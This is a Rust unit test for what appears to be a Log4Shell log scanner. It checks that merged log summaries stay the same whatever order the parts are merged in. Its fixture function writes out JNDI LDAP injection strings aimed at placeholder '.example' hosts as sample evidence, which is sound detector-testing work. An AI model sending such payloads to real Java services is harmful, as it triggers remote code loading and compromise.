//! The log summary's capped lists keep the same entries and counts whatever the order in
//! which parts are merged (issue 11): parallel scans give equal documents.

#![allow(clippy::unwrap_used)]

use praxcheck_model::{
    Callback, EvidenceLevel, Location, LogEvidence, LogSummary, MAX_SUMMARY_HOSTS,
};

fn trace(file: usize, host: usize, line: u64) -> LogEvidence {
    LogEvidence {
        location: Location::file(std::path::Path::new(&format!("/var/log/f{file:03}.log"))),
        line,
        timestamp: Some(format!("2021-12-{:02} 10:00:00", 1 + host % 28)),
        source_address: None,
        level: if host.is_multiple_of(5) {
            EvidenceLevel::LookupExecuted
        } else {
            EvidenceLevel::PayloadSeen
        },
        payload: Some(format!("${{jndi:ldap://h{host:04}.example/a}}")),
        payload_truncated: false,
        callback: Some(Callback {
            protocol: "ldap".into(),
            host: Some(format!("h{host:04}.example")),
            port: None,
        }),
        obfuscation: Vec::new(),
        marker: None,
    }
}

#[test]
fn merging_in_any_order_gives_the_same_summary() {
    // 600 hosts over 12 files: more hosts than the list holds.
    let parts: Vec<LogSummary> = (0..12)
        .map(|f| {
            let mut s = LogSummary::default();
            for i in 0..150u64 {
                let host = usize::try_from((i * 7 + f * 50) % 600).unwrap();
                s.record(&trace(usize::try_from(f).unwrap(), host, i + 1));
            }
            s
        })
        .collect();
    let mut forward = LogSummary::default();
    for p in parts.iter().cloned() {
        forward.merge(p);
    }
    let mut backward = LogSummary::default();
    for p in parts.iter().rev().cloned() {
        backward.merge(p);
    }
    let mut pairs = LogSummary::default();
    for ch in parts.chunks(5).rev() {
        let mut c = LogSummary::default();
        for p in ch.iter().cloned() {
            c.merge(p);
        }
        pairs.merge(c);
    }
    assert_eq!(forward, backward);
    assert_eq!(forward, pairs);
    assert_eq!(forward.traces, 12 * 150);
    assert_eq!(forward.hosts.len(), MAX_SUMMARY_HOSTS);
    assert_eq!(
        forward.hosts.iter().map(|h| h.traces).sum::<u64>() + forward.traces_of_unlisted_hosts,
        forward.traces
    );
    // The listed hosts are the first by name, so the same in every scan.
    assert_eq!(forward.hosts[0].host, "h0000.example");
    assert_eq!(forward.files.len(), 12);
    assert_eq!(forward.files[0].first_line, 1);
    assert_eq!(forward.files[0].last_line, 150);
}
